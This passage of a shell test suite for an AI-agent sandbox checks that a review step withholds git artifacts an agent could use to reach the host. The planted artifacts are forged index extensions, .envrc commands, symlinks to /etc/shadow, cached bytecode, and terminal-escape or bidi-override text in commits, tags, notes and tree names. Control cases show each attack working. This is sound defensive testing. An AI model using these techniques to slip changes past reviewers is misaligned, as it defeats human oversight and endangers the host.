  tree0=$(git -C "$HOST" rev-parse HEAD^{tree})
  bundle_usr "set -e; cd /workspace; T=\$(git rev-parse HEAD^{tree})
    echo 'touch $T/marker-eoie' >.envrc && ln -s /etc/shadow notes.txt
    export GIT_INDEX_FILE=/tmp/fx; git read-tree HEAD; git add -f .envrc notes.txt; X=\$(git write-tree)
    unset GIT_INDEX_FILE; rm -f .envrc notes.txt
    git read-tree HEAD && git write-tree >/dev/null && python3 /etc/eoie.py \$T \$X
    cp .git/index /tmp/i1 && cp .git/index /tmp/i4
    test \"\$(GIT_INDEX_FILE=/tmp/i1 git -c index.threads=1 write-tree)\" = \$T &&
      test \"\$(GIT_INDEX_FILE=/tmp/i4 git -c index.threads=4 write-tree)\" = \$X && echo PLANTED \$X"
  cat >"$BUNDLE/rootfs/etc/eoie.py" <<'PY'
import hashlib, struct, sys
t, x = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
d = open(".git/index", "rb").read()[:-20]
i = d.find(b"TREE")
assert i > 0, "no cached root tree"
size = struct.unpack(">I", d[i + 4:i + 8])[0]
tree = bytearray(d[i + 8:i + 8 + size])
j = tree.find(t)
assert j > 0 and i + 8 + size == len(d)
tree[j:j + 20] = x
hidden = b"TREE" + struct.pack(">I", len(tree)) + bytes(tree)
out = bytearray(d[:i]) + b"ZHID" + struct.pack(">I", len(hidden))
off = len(out)
out += hidden
out += b"EOIE" + struct.pack(">I", 24) + struct.pack(">I", off) + hashlib.sha1(hidden[:8]).digest()
open(".git/index", "wb").write(bytes(out) + hashlib.sha1(out).digest())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  forged=$(sed -n 's/^PLANTED //p' <<<"$output")
  marked .git/index
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
  (cd "$HOST" && git -c index.threads=4 commit -q --allow-empty -m review && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
  [ "$(git -C "$HOST" rev-parse HEAD^{tree})" = "$tree0" ] || fail "the host's commit recorded $(git -C "$HOST" rev-parse HEAD^{tree})"
  [ ! -e "$HOST/.envrc" ] && [ ! -L "$HOST/notes.txt" ] || fail "git reset --hard wrote the agent's files: $(ls -la "$HOST")"
  # control: the index included, the host's threaded commit records the agent's tree (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git -c index.threads=4 commit -q --allow-empty -m review2 && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
  [ "$(git -C "$HOST" rev-parse HEAD^{tree})" = "$forged" ] && grep -q marker-eoie "$HOST/.envrc" &&
    [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] || fail "control: $(git -C "$HOST" log --stat -1; ls -la "$HOST")"
}

# An index's resolve-undo extension (REUC) keeps the stages of a conflict the user resolved;
# `git checkout -m -- .` (recreate the conflicted merge) puts them back for every entry it
# names and writes their merge with the mode of stage 2.  The agent's index held the host's
# clean entries and a REUC for the tracked notes.txt whose stages are a symlink to
# /etc/shadow: nothing showed in git status, and the host's `git checkout -m -- .` made
# notes.txt that symlink.
@test "escape: a resolve-undo record (REUC) in the index: git checkout -m writes its symlink" {
  host_repo plain
  echo notes >"$HOST/notes.txt" && git -C "$HOST" add notes.txt && git -C "$HOST" commit -q -m notes
  bundle_usr "set -e; cd /workspace; B=\$(printf /etc/shadow | git hash-object -w --stdin)
    python3 /etc/reuc.py notes.txt 120000 \$B && test -z \"\$(git status --porcelain)\" &&
    git ls-files --resolve-undo | grep -q 120000 && echo PLANTED"
  cat >"$BUNDLE/rootfs/etc/reuc.py" <<'PY'
import hashlib, struct, sys
# a REUC extension: path sys.argv[1], stages 2 and 3 of mode sys.argv[2], blob sys.argv[3]
d = open(".git/index", "rb").read()[:-20]
path, mode, oid = sys.argv[1].encode(), sys.argv[2].encode(), bytes.fromhex(sys.argv[3])
data = path + b"\0" + b"0\0" + mode + b"\0" + mode + b"\0" + oid + oid
out = d + b"REUC" + struct.pack(">I", len(data)) + data
open(".git/index", "wb").write(out + hashlib.sha1(out).digest())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/index
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
  (cd "$HOST" && git checkout -m -- .) >/dev/null 2>&1 </dev/null || true
  [ ! -L "$HOST/notes.txt" ] && [ "$(cat "$HOST/notes.txt")" = notes ] || fail "git checkout -m wrote: $(ls -la "$HOST")"
  # control: the index included, the host's git checkout -m makes the symlink (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && git checkout -m -- .) >/dev/null 2>&1 </dev/null || true
  [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] || fail "control: $(ls -la "$HOST")"
}

# git reads an index with its repository's hash size (extensions.objectFormat in its
# config; SHA-1 without one), never by trying both, and checks no checksum.  In a host
# repository with no index yet (a fresh `git init`), agentrt read the agent's index as SHA-1,
# else as SHA-256: a SHA-256 index passed, and the host's git read the same bytes as other
# entries (one named by the bytes of an object id).  An honest index of the repository's own
# size passes, in SHA-1 and in SHA-256 repositories.
@test "escape: an index read with another hash size than its repository's (SHA-256 index in a SHA-1 repository without a host index)" {
  requires_git
  host_git_env
  git -C "$HOST" init -q
  bundle_usr "set -e; git init -q --object-format=sha256 /tmp/o && cd /tmp/o && echo x >f && git add f
    cp .git/index /workspace/.git/index && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/index
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ ! -e "$HOST/.git/index" ] && [ -z "$(git -C "$HOST" ls-files --stage)" ] || fail "the index was committed"
  # control: included, the host's git reads as SHA-1 an entry agentrt never checked, named
  # by the bytes of the SHA-256 object id, not `f` (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  run git -C "$HOST" ls-files --stage
  [ "$status" -eq 0 ] && [ -n "$output" ] && [[ "$output" != *$'\t'f ]] || fail "control: $output"
}

@test "workspace: an honest index of the repository's hash size passes (SHA-1 without a host index, SHA-256)" {
  requires_git
  host_git_env
  git -C "$HOST" init -q
  mkdir "$HOST/s256" && echo y >"$HOST/s256/y.txt"
  git -C "$HOST/s256" init -q --object-format=sha256 && git -C "$HOST/s256" add -A && git -C "$HOST/s256" commit -q -m base
  bundle_usr "set -e; cd /workspace && git add a.txt && git commit -q -m one
    cd s256 && echo z >>y.txt && git commit -q -am two && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  local p
  run ar workspace "$ID" diff --format json
  for p in .git/index s256/.git/index .git/refs/heads/master s256/.git/refs/heads/master; do
    [ "$(jq -r --arg p "$p" '.changes[] | select(.path == $p) | .protected // "none"' <<<"$output")" = none ] ||
      fail "$p protected: $output"
  done
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ -z "$(git -C "$HOST/s256" status --porcelain)" ] && [ "$(git -C "$HOST/s256" log -1 --format=%s)" = two ] &&
    [ "$(git -C "$HOST" log -1 --format=%s)" = one ] || fail "host: $(git -C "$HOST/s256" status 2>&1)"
}

@test "workspace: an honest merge conflict resolved in the agent's git commits its index (resolve-undo of plain files)" {
  host_repo plain
  echo base >"$HOST/f.txt" && git -C "$HOST" add f.txt && git -C "$HOST" commit -q -m f
  bundle_usr "set -e; cd /workspace; git checkout -q -b other; echo other >f.txt; git commit -qam other
    git checkout -q -; echo mine >f.txt; git commit -qam mine; git merge -q other >/dev/null 2>&1 || true
    echo resolved >f.txt; git add f.txt; git ls-files --resolve-undo | grep -q f.txt; echo DONE"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *DONE* ]] || fail "run: $output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest index is protected: $(jq -c '.changes[] | select(.path == ".git/index")' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  git -C "$HOST" ls-files --resolve-undo | grep -q f.txt || fail "no resolve-undo on the host"
}

# git's file-system monitor data (FSMN extension): on a host with core.fsmonitor, git takes
# each entry its bitmap does not mark dirty as unchanged unless the monitor names it as
# changed since the index's token, and lstats none of them.  The agent changed notes.txt and
# wrote an FSMN with a token of its own and no entry dirty; the host's monitor (here a hook
# with nothing to report for that token, as a monitor answers a clock it will reach later)
# made the host's git status and diff show nothing and git checkout -- notes.txt restore
# nothing.  An honest FSMN (git's own where no monitor answers: a time already past) passes.
@test "escape: an index whose file-system monitor token (FSMN) hides the agent's change from the host's git" {
  host_repo plain
  echo notes >"$HOST/notes.txt" && git -C "$HOST" add notes.txt && git -C "$HOST" commit -q -m notes
  printf '#!/bin/sh\nprintf "tok\\0"\n' >"$T/fsm.sh" && chmod +x "$T/fsm.sh"
  bundle_usr "set -e; cd /workspace; echo changed >>notes.txt; python3 /etc/fsmn.py && echo PLANTED"
  cat >"$BUNDLE/rootfs/etc/fsmn.py" <<'PY'
import hashlib, struct
d = open(".git/index", "rb").read()[:-20]
ewah = struct.pack(">III", 0, 0, 0)  # no entry dirty
data = struct.pack(">I", 2) + b"tok\0" + struct.pack(">I", len(ewah)) + ewah
out = d + b"FSMN" + struct.pack(">I", len(data)) + data
open(".git/index", "wb").write(out + hashlib.sha1(out).digest())
PY
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/index
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
  # (--no-optional-locks: the host's status does not write its index, with the hook's token)
  [ "$(git -C "$HOST" --no-optional-locks -c core.fsmonitor="$T/fsm.sh" status --porcelain)" = " M notes.txt" ] ||
    fail "the host's git status: $(git -C "$HOST" --no-optional-locks -c core.fsmonitor="$T/fsm.sh" status --porcelain)"
  # control: the index included, the host's git with its monitor sees no change (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/index
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  [ -z "$(git -C "$HOST" -c core.fsmonitor="$T/fsm.sh" status --porcelain)" ] &&
    [ "$(git -C "$HOST" -c core.fsmonitor="$T/fsm.sh" ls-files -f notes.txt)" = "h notes.txt" ] ||
    fail "control: $(git -C "$HOST" -c core.fsmonitor="$T/fsm.sh" status --porcelain)"
}

@test "workspace: an honest git with a file-system monitor that does not answer commits its index (FSMN, a past time)" {
  host_repo plain
  bundle_usr "set -e; cd /workspace; echo x >new.txt; git -c core.fsmonitor=/bin/false add new.txt
    git -c core.fsmonitor=/bin/false status --porcelain >/dev/null; grep -q FSMN .git/index && echo DONE"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *DONE* ]] || fail "run: $output"
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest index is protected: $(jq -c '.changes[] | select(.path == ".git/index")' <<<"$output")"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [ "$(git -C "$HOST" status --porcelain)" = "A  new.txt" ] || fail "host status: $(git -C "$HOST" status --porcelain)"
}

# The agent's commits are read too: a ref it changed names a commit whose
# tree the host's `git checkout -- .`, `git restore .` or `git reset --hard`
# writes.  A `.envrc`, cached bytecode or a symlink to a host file held back
# as a file must not come back through the history: the ref (loose, packed
# after `git gc`, a new branch, a detached HEAD) is left out.
# history_escape VARIANT: the agent commits the files, then VARIANT's git
# work; the review must mark REFS (the variant's ref files); after the
# default commit the host's git writes none of them and its HEAD is the
# commit it had; committed with --include-protected REFS, `git reset --hard`
# (or `git checkout -f BRANCH`) writes them (the control).
history_escape() {
  local variant=$1 tag refs=() p head0
  host_repo plain
  head0=$(git -C "$HOST" rev-parse HEAD)
  tag=$(python3 -c 'import sys; print(sys.implementation.cache_tag)' 2>/dev/null || echo cpython-311)
  PYC="__pycache__/mod.$tag.pyc"
  local plant="echo 'touch $T/marker-history' >.envrc && mkdir -p __pycache__ && echo bytecode >$PYC &&
    ln -s /etc/shadow notes.txt && git add -f .envrc __pycache__ notes.txt && git commit -q -m tidy"
  case $variant in
  loose) refs=(.git/refs/heads/master) ;;
  gc) plant="$plant && git gc -q && test ! -e .git/refs/heads/master && test -s .git/packed-refs && ls .git/objects/pack/*.pack"
    refs=(.git/refs/heads/master .git/packed-refs) ;;
  branch) plant="git checkout -q -b feature && $plant && git checkout -q master"
    refs=(.git/refs/heads/feature) ;;
  detached) plant="git checkout -q --detach && $plant"
    refs=(.git/HEAD) ;;
  ancestor) # the next commit takes them out again: only HEAD~2 has them
    plant="$plant && git rm -rq --cached .envrc __pycache__ notes.txt && rm -rf .envrc __pycache__ notes.txt &&
      echo later >>a.txt && git commit -q -am clean && git commit -q --allow-empty -m later"
    refs=(.git/refs/heads/master) ;;
  ancestor-1971) # the same, the planting commit dated before the host's whole history
    plant="export GIT_COMMITTER_DATE=1971-01-01T00:00:00Z GIT_AUTHOR_DATE=1971-01-01T00:00:00Z && $plant &&
      unset GIT_COMMITTER_DATE GIT_AUTHOR_DATE && git rm -rq --cached .envrc __pycache__ notes.txt &&
      rm -rf .envrc __pycache__ notes.txt && echo later >>a.txt && git commit -q -am clean &&
      git commit -q --allow-empty -m later"
    refs=(.git/refs/heads/master) ;;
  esac
  bundle_usr "set -e; cd /workspace && $plant && git log --oneline -1 && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked "${refs[@]}"
  run ar workspace "$ID" diff
  [[ "$output" == *"${refs[0]}"*"a commit with a new or changed"*"(ref \`"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  for p in "${refs[@]}"; do
    [[ "$output" == *"left out $p"* ]] || fail "commit did not leave out $p: $output"
  done
  (cd "$HOST" && git status && git checkout -- . && git restore . && git reset -q --hard &&
    { [ "$variant" != branch ] || git checkout -q feature; }) >/dev/null 2>&1 </dev/null || true
  [ ! -e "$HOST/.envrc" ] && [ ! -e "$HOST/$PYC" ] && [ ! -L "$HOST/notes.txt" ] ||
    fail "the host's git wrote the agent's files: $(ls -la "$HOST" "$HOST/__pycache__" 2>&1)"
  [ "$(git -C "$HOST" rev-parse HEAD)" = "$head0" ] || fail "the host's HEAD moved: $(git -C "$HOST" log --oneline -2)"
  [ ! -e "$T/marker-history" ] || fail "marker"
  # control: the refs included, the same host commands write them (the test can fail)
  local incl=()
  for p in "${refs[@]}"; do incl+=(--include-protected "$p"); done
  run ar workspace "$ID" commit "${incl[@]}"
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  (cd "$HOST" && case $variant in branch) git checkout -q -f feature ;; ancestor*) git reset -q --hard HEAD~2 ;;
    *) git reset -q --hard ;; esac) \
    >/dev/null 2>&1 </dev/null || true
  grep -q marker-history "$HOST/.envrc" && [ -e "$HOST/$PYC" ] && [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] ||
    fail "control: the included ref did not make git write the files: $(ls -la "$HOST")"
}

@test "escape: protected files committed in the agent's git history (.envrc, __pycache__/*.pyc, a symlink to /etc/shadow)" {
  history_escape loose
}

@test "escape: protected files committed in the agent's git history, after git gc (packed objects, packed-refs)" {
  history_escape gc
}

@test "escape: protected files committed in the agent's git history, on a new branch the host checks out" {
  history_escape branch
}

@test "escape: protected files committed in the agent's git history, on a detached HEAD" {
  history_escape detached
}

# git prints a commit's message, author and a tag's message as they are (`git log` through
# a pager that passes them, `git log | cat`, `git show` in a script, an IDE's terminal):
# `workspace diff` does not show them.  The agent's commit message erases the line above
# and retitles the terminal, its annotated tag's message does the same; each ref naming them
# is held back, and the host's git log prints no escape.  An honest commit with tabs and
# UTF-8 passes.
@test "escape: terminal escapes in the agent's commit and tag messages reach the host's git log" {
  host_repo plain
  bundle_usr "set -e; cd /workspace; echo w >>a.txt; git add a.txt
    git commit -q -m \"\$(printf 'fix typo\033[1A\033[2K\033]0;owned\007')\"
    git tag -a -m \"\$(printf 'v1\033[2J')\" v1 && git checkout -q -b side HEAD~1 2>/dev/null || git checkout -q -b side
    printf 'caf\303\251\tdone\n' >m && git commit -q --allow-empty -F m
    git update-ref -m \"\$(printf 'x\302\233' ; printf '2J')\" refs/heads/side2 HEAD
    git branch \"\$(printf 'b\302\233')2J\" && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/refs/heads/master .git/refs/tags/v1 .git/logs/refs/heads/side2 '.git/refs/heads/b\u009b2J'
  run ar workspace "$ID" diff --format json
  [ "$(jq -r '.changes[] | select(.path == ".git/refs/heads/side") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest branch is protected: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"terminal control"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  ! git -C "$HOST" log --all --format='%an %B' | grep -q "$(printf '\033')" ||
    fail "the host's git log prints an escape"
  git -C "$HOST" log -1 --format=%B side | grep -q "$(printf 'caf\303\251\tdone')" || fail "the honest branch did not arrive"
  # control: the refs included, the host's git log prints the escapes (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/refs/heads/master --include-protected .git/refs/tags/v1
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  git -C "$HOST" log -1 --format=%B master | grep -q "$(printf '\033\\[2K')" &&
    git -C "$HOST" tag -n1 v1 | grep -q "$(printf '\033\\[2J')" || fail "control: $(git -C "$HOST" log --all --format=%B | od -c | head)"
}

# A bidirectional override or isolate (U+202A to U+202E, U+2066 to U+2069) makes a terminal
# show the rest of its line in another order than git prints it (Trojan Source): the agent's
# commit message `fix typo` followed by an override and reversed text reads as another message
# in the host's `git log`, and its annotated tag and a branch name likewise.  Each ref naming
# them is held back.  An honest message in Hebrew with a right-to-left mark (U+200F) and an
# emoji joined by U+200D passes.
@test "escape: bidi overrides in the agent's commit and tag messages reorder the host's git log" {
  host_repo plain
  bundle_usr "set -e; cd /workspace; git checkout -q -b side
    printf '\327\251\327\234\327\225\327\235 \342\200\217ok \360\237\221\251\342\200\215\360\237\224\254\n' >m
    git commit -q --allow-empty -F m && git checkout -q master
    echo w >>a.txt; git add a.txt
    git commit -q -m \"\$(printf 'fix typo \342\200\256 txet ym si siht')\"
    git tag -a -m \"\$(printf 'v1 \342\201\247ok\342\201\251')\" v1
    git branch \"\$(printf 'b\342\200\256x')\" && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/refs/heads/master .git/refs/tags/v1 '.git/refs/heads/b\u202ex'
  [ "$(jq -r '.changes[] | select(.path == ".git/refs/heads/side") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest branch is protected: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"terminal control"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  ! git -C "$HOST" log --all --format='%B' | grep -q "$(printf '\342\200\256')" ||
    fail "the host's git log prints an override"
  git -C "$HOST" log -1 --format=%B side | grep -q "$(printf '\342\200\217ok')" || fail "the honest branch did not arrive"
  # control: the refs included, the host's git log prints the override (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/refs/heads/master --include-protected .git/refs/tags/v1
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  git -C "$HOST" log -1 --format=%B master | grep -q "$(printf '\342\200\256')" &&
    git -C "$HOST" tag -n1 v1 | grep -q "$(printf '\342\201\247')" || fail "control: $(git -C "$HOST" log --all --format=%B | od -c | head)"
}

# A commit or tag may name the encoding of its message (`encoding ISO-8859-1`, what
# i18n.commitEncoding writes): `git log` re-encodes it into UTF-8, so the byte 0x9b, which is
# no control as stored (the review read the stored bytes), reaches the host's terminal as
# U+009B, the C1 control CSI, and `\x9b2J` cleared it.  Such a commit's ref is held back
# (an honest agent leaves the encoding alone: UTF-8 passes, as the tests above show).
@test "escape: a commit in ISO-8859-1 whose message the host's git log re-encodes into a C1 control" {
  host_repo plain
  bundle_usr "set -e; cd /workspace; echo w >>a.txt
    git -c i18n.commitEncoding=ISO-8859-1 commit -q -am \"\$(printf 'fix \2332J typo')\"
    git cat-file commit HEAD | grep -q '^encoding ISO-8859-1' && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/refs/heads/master
  run ar workspace "$ID" diff
  [[ "$output" == *"an encoding other than UTF-8"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  ! git -C "$HOST" log --format=%B | grep -q "$(printf '\302\233')" || fail "the host's git log prints a C1 control"
  # control: the ref included, the host's git log prints U+009B (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/refs/heads/master
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  git -C "$HOST" log -1 --format=%B | grep -q "$(printf '\302\2332J')" || fail "control: $(git -C "$HOST" log -1 --format=%B | od -c | head)"
}

# `git log` prints the notes of refs/notes/commits under each commit they annotate, as they
# are: the agent's note on the host's own commit erased the line above and retitled the
# terminal of the operator's `git log | cat`, and `workspace diff` showed only a new ref and
# object files.  The notes ref is held back; an honest note (UTF-8, a tab) on another notes
# ref passes, and a note the host already had is not read again.
@test "escape: notes: terminal escapes in a note the agent adds to the host's commit reach the host's git log" {
  host_repo plain
  git -C "$HOST" notes add -m "reviewed" HEAD
  bundle_usr "set -e; cd /workspace; echo w >>a.txt; git commit -q -am work
    git notes add -f -m \"\$(printf 'ok\033[1A\033[2K\033]0;owned\007')\" HEAD~1
    git notes --ref review add -m \"\$(printf 'caf\303\251\tok')\" HEAD && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/refs/notes/commits
  [ "$(jq -r '.changes[] | select(.path == ".git/refs/notes/review") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest note is protected: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"terminal control"*"refs/notes/commits"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  [[ "$output" == *"left out .git/refs/notes/commits"* ]] || fail "commit: $output"
  ! git -C "$HOST" log --notes --notes=review | grep -q "$(printf '\033')" || fail "the host's git log prints an escape"
  git -C "$HOST" log -1 --notes=review | grep -q "$(printf 'caf\303\251\tok')" || fail "the honest note did not arrive"
  git -C "$HOST" log -1 HEAD~1 | grep -q reviewed || fail "the host's own note is gone"
  # control: the notes ref included, the host's git log prints the escape (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/refs/notes/commits
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  git -C "$HOST" log | grep -q "$(printf '\033\\[2K')" || fail "control: $(git -C "$HOST" log | od -c | head)"
}

# A tag may name a blob (git's own repository tags its maintainer's key so): `git show TAG`
# prints the blob as it is, and the agent's tag of a blob holding escapes (lightweight, and
# annotated with an honest message) erased the line above in the host's `git show`, where the
# review checked commits' and tags' text only.  Both tags are held back; an honest tag of a
# text blob passes.
@test "escape: a tag naming a blob whose text holds terminal escapes reaches the host's git show" {
  host_repo plain
  bundle_usr "set -e; cd /workspace
    b=\$(printf 'ok\033[1A\033[2K\033]0;owned\007\n' | git hash-object -w --stdin)
    git tag readme \$b && git tag -a -m fine readme2 \$b
    git tag key \$(printf 'caf\303\251\tkey\n' | git hash-object -w --stdin) && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/refs/tags/readme .git/refs/tags/readme2
  [ "$(jq -r '.changes[] | select(.path == ".git/refs/tags/key") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest tag is protected: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"a blob holding terminal control"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  ! git -C "$HOST" show readme readme2 2>&1 | grep -q "$(printf '\033')" || fail "the host's git show prints an escape"
  git -C "$HOST" show key | grep -q "$(printf 'caf\303\251\tkey')" || fail "the honest tag did not arrive"
  # control: the tags included, the host's git show prints the escape (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/refs/tags/readme --include-protected .git/refs/tags/readme2
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  git -C "$HOST" show readme | grep -q "$(printf '\033\\[2K')" &&
    git -C "$HOST" show readme2 | grep -q "$(printf '\033\\[2K')" || fail "control: $(git -C "$HOST" show readme | od -c | head)"
}

# A ref may name a tree too: `git show TAG` lists its entries' names as they are (where
# `git ls-tree` and a commit's diff quote them).  The agent's tag of a tree holding a name
# with an escape erased the host's screen in `git show`.  It is held back; an honest tag of
# a tree of UTF-8 names passes.
@test "escape: a tag naming a tree whose names hold terminal escapes reaches the host's git show" {
  host_repo plain
  bundle_usr "set -e; cd /workspace; b=\$(echo x | git hash-object -w --stdin)
    git tag files \$(printf '100644 blob %s\tok\033[2J\033]0;owned\007\n' \$b | git mktree)
    git tag docs \$(printf '100644 blob %s\tcaf\303\251.txt\n' \$b | git mktree) && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked .git/refs/tags/files
  [ "$(jq -r '.changes[] | select(.path == ".git/refs/tags/docs") | .protected // "none"' <<<"$output")" = none ] ||
    fail "the honest tag is protected: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"a tree whose names hold terminal control"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  ! git -C "$HOST" show files 2>&1 | grep -q "$(printf '\033')" || fail "the host's git show prints an escape"
  git -C "$HOST" show docs | grep -q "$(printf 'caf\303\251.txt')" || fail "the honest tag did not arrive"
  # control: the tag included, the host's git show prints the escape (the test can fail)
  run ar workspace "$ID" commit --include-protected .git/refs/tags/files
  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
  git -C "$HOST" show files | grep -q "$(printf '\033\\[2J')" || fail "control: $(git -C "$HOST" show files | od -c | head)"
}

# reflog_escape VARIANT: the agent leaves a commit of protected files named
# by its reflogs alone: committed and undone with `git reset --hard HEAD~1`
# (reset), or an untracked .envrc stashed below a clean stash (stash).  The
# refs name clean commits and pass; the review must mark the reflogs, and
# after the default commit the host's `git reset --hard HEAD@{1}`, `git
# checkout HEAD@{1} -- .` (`git stash pop stash@{1}`) write none of the files;
# committed with --include-protected LOGS, the same commands write them (the
# control).
reflog_escape() {
  local variant=$1 logs=() p head0 tag plant undo
  host_repo plain
  head0=$(git -C "$HOST" rev-parse HEAD)
  tag=$(python3 -c 'import sys; print(sys.implementation.cache_tag)' 2>/dev/null || echo cpython-311)
  PYC="__pycache__/mod.$tag.pyc"
  case $variant in
  reset) plant="echo 'touch $T/marker-reflog' >.envrc && mkdir -p __pycache__ && echo bytecode >$PYC &&
      ln -s /etc/shadow notes.txt && git add -f .envrc __pycache__ notes.txt && git commit -q -m tidy &&
      git reset -q --hard HEAD~1 && test ! -e .envrc && test \"\$(git rev-parse HEAD)\" = $head0"
    undo='git reset -q --hard HEAD@{1}; git checkout -q HEAD@{1} -- .'
    logs=(.git/logs/HEAD .git/logs/refs/heads/master) ;;
  stash) plant="echo 'touch $T/marker-reflog' >.envrc && git stash -q -u && echo w >>a.txt && git stash -q &&
      test ! -e .envrc && git stash list | wc -l"
    undo='git stash pop -q stash@{1}'
    logs=(.git/logs/refs/stash) ;;
  esac
  bundle_usr "set -e; cd /workspace && $plant && echo PLANTED"
  run ar run --bundle "$BUNDLE" "$ID"
  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
  marked "${logs[@]}"
  [ "$(jq -r '[.changes[] | select(.protected) | .path | select(test("^\\.git/(HEAD|refs/.*)$"))] | length' <<<"$output")" = 0 ] ||
    fail "a ref (naming a clean commit) is protected: $output"
  run ar workspace "$ID" diff
  [[ "$output" == *"${logs[0]}"*"a commit with a new or changed"*"(an entry of the reflog of \`"* ]] || fail "diff: $output"
  run ar workspace "$ID" commit
  [ "$status" -eq 0 ] || fail "commit: $output"
  for p in "${logs[@]}"; do
    [[ "$output" == *"left out $p"* ]] || fail "commit did not leave out $p: $output"
  done
  (cd "$HOST" && git status && eval "$undo") >/dev/null 2>&1 </dev/null || true
  [ ! -e "$HOST/.envrc" ] && [ ! -e "$HOST/$PYC" ] && [ ! -L "$HOST/notes.txt" ] ||
